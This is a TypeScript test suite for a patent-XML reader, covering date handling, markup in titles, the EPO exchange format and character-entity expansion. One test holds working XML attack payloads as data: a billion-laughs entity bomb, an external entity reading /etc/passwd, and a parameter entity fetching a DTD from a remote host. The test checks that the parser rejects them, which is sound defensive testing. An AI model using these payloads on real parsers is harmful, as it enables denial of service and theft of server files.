import { afterAll, describe, expect, it } from 'vitest';
import { grantXml, problemsOf, readingFolder, recordsOf } from '../collect.fixture.ts';
import { expandEntities } from './expand-entities.ts';

const { read, remove } = readingFolder();
afterAll(remove);
const problemTexts = (entries: Awaited<ReturnType<typeof read>>) =>
  problemsOf(entries).map(({ problem }) => problem);

describe('office XML', () => {
  it('names a broken document by its byte and reads the rest', async () => {
    const first = grantXml('08353040', 'Pump');
    const broken = grantXml('1', 'Broken').replace('</abstract>', '');
    const entries = await read('a.xml', `${first}${broken}${grantXml('08353041', 'Valve')}`);
    expect(recordsOf(entries)).toMatchObject([
      {
        number: 'US8353040',
        title: 'Pump',
        abstract: 'A quiet pump — with a valve.',
        date: '2013-01-08',
        filed: '2010-03-04',
        claim: '1. A pump.',
        source: 'library',
      },
      { number: 'US8353041' },
    ]);
    const [problem] = problemsOf(entries);
    const start = Buffer.byteLength(first);
    expect(problem?.at.offset).toBeGreaterThan(start);
    expect(problem?.at.offset).toBeLessThan(start + Buffer.byteLength(broken));
  });

  it('refuses entities of a document’s own, internal or external, and nothing else with it', async () => {
    const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
      '',
    );
    const evil = [
      `<!ENTITY l0 "ha">${laughs}`,
      '<!ENTITY x SYSTEM "file:///etc/passwd">',
      '<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd"> %p;',
    ];
    const text = evil
      .map((declared, i) => grantXml(`${i + 1}`, 'Billion &l9; &x;').replace('[ ]', `[${declared}]`))
      .join('');
    const entries = await read('b.xml', text + grantXml('9', 'Pump'));
    expect(recordsOf(entries).map(({ number }) => number)).toEqual(['US9']);
    expect(problemTexts(entries)).toEqual(
      evil.map(() => expect.stringContaining('declares entities of its own')),
    );
  });

  it('reads figures’ declarations of older files without opening them', async () => {
    const declared = '<!ENTITY D0 SYSTEM "D0.TIF" NDATA TIF>';
    expect(problemTexts(await read('c.xml', grantXml('5', 'x').replace('[ ]', `[${declared}]`)))).toEqual([]);
  });

  it('takes the earliest date that is claimed, and the international filing as filing', async () => {
    const related = `<us-related-documents><continuation><relation><parent-doc><document-id><doc-number>1</doc-number><date>20080102</date></document-id>
      <parent-grant-document><document-id><doc-number>2</doc-number><date>20010101</date></document-id></parent-grant-document></parent-doc></relation></continuation>
      <us-provisional-application><document-id><doc-number>3</doc-number><date>20070103</date></document-id></us-provisional-application></us-related-documents>
      <pct-or-regional-filing-data><document-id><country>WO</country><doc-number>PCT/X</doc-number><date>20090909</date></document-id></pct-or-regional-filing-data>`;
    const [record] = recordsOf(
      await read('d.xml', grantXml('5', 'x').replace('</us-bibliographic-data-grant>', `${related}$&`)),
    );
    expect(record).toMatchObject({ filed: '2009-09-09', priority: '2007-01-03' });
  });

  it('joins what markup divides within words, and parts what blocks divide', async () => {
    const title =
      'LiFePO<sub>4</sub> at 10<sup>&#x2212;6</sup> m<sup>2</sup><br/>and <i>in <b>vivo</b></i>-tests';
    const [record] = recordsOf(await read('e.xml', grantXml('5', title)));
    expect(record?.title).toBe('LiFePO4 at 10⁻⁶ m2 and in vivo-tests');
  });

  it('reads exchange documents: English first, the office’s own spelling of names, families', async () => {
    const document = (
      number: string,
    ) => `<exch:exchange-document country="DE" doc-number="${number}" kind="A1" family-id="27589531" date-publ="20200102">
      <exch:bibliographic-data><exch:application-reference><document-id><date>20180203</date></document-id></exch:application-reference>
      <exch:classifications-ipcr><classification-ipcr><text>B01J  25/00        20060101AFI20060310RMJP        </text></classification-ipcr></exch:classifications-ipcr>
      <exch:priority-claims><exch:priority-claim><document-id><date>20170102</date></document-id></exch:priority-claim></exch:priority-claims>
      <exch:parties><exch:applicants><exch:applicant data-format="docdb"><exch:applicant-name><name>EXAMPLE AG</name></exch:applicant-name></exch:applicant>
      <exch:applicant data-format="original"><exch:applicant-name><name>Example AG, Bonn</name></exch:applicant-name></exch:applicant></exch:applicants>
      <exch:inventors><exch:inventor data-format="original"><exch:inventor-name><name>Ek, Bo</name></exch:inventor-name></exch:inventor></exch:inventors></exch:parties>
      <exch:invention-title lang="de">Pumpe</exch:invention-title><exch:invention-title lang="en">Pump</exch:invention-title></exch:bibliographic-data>
      <exch:abstract lang="de"><exch:p>Eine Pumpe.</exch:p></exch:abstract></exch:exchange-document>`;
    const text = `<?xml version="1.0"?><exch:exchange-documents xmlns:exch="http://www.epo.org/exchange">${document('102018000001')}${document('102018000002')}</exch:exchange-documents>`;
    const entries = await read('f.xml', text);
    expect(problemTexts(entries)).toEqual([]);
    expect(recordsOf(entries)).toMatchObject([
      {
        number: 'DE102018000001',
        title: 'Pump',
        abstract: 'Eine Pumpe.',
        date: '2020-01-02',
        filed: '2018-02-03',
        priority: '2017-01-02',
        assignee: 'EXAMPLE AG',
        inventors: ['Ek, Bo'],
        cpc: ['B01J25/00'],
        family: 'docdb:27589531',
        url: 'https://patents.google.com/patent/DE102018000001A1',
      },
      { number: 'DE102018000002' },
    ]);
  });

  it('says of XML without patents that it holds none', async () => {
    expect(problemTexts(await read('g.xml', '<?xml version="1.0"?><html><body>x</body></html>'))).not.toEqual(
      [],
    );
    expect(problemTexts(await read('h.xml', ''))).toEqual(['holds no patent in a format that can be read']);
  });
});

describe('names of characters', () => {
  it.each([
    ['&ldquo;&rdquo;&nbsp;&mdash;&deg;&times;&alpha;&eacute;', '“”\u00a0—°×αé'],
    ['&agr;&OHgr;&PHgr;', 'αΩΦ'],
    ['&Scaron;&ccaron;&scedil;&ogon;', 'Ščş&ogon;'],
    ['&#945;&#x3b1;&#xFFFFFF;&#0;&#151;', 'αα\ufffd\ufffd—'],
    ['&amp;lt; &lt; AT&T &unknownname; &', '&lt; < AT&T &unknownname; &'],
  ])('%s is %s', (text, expanded) => expect(expandEntities(text)).toBe(expanded));
});
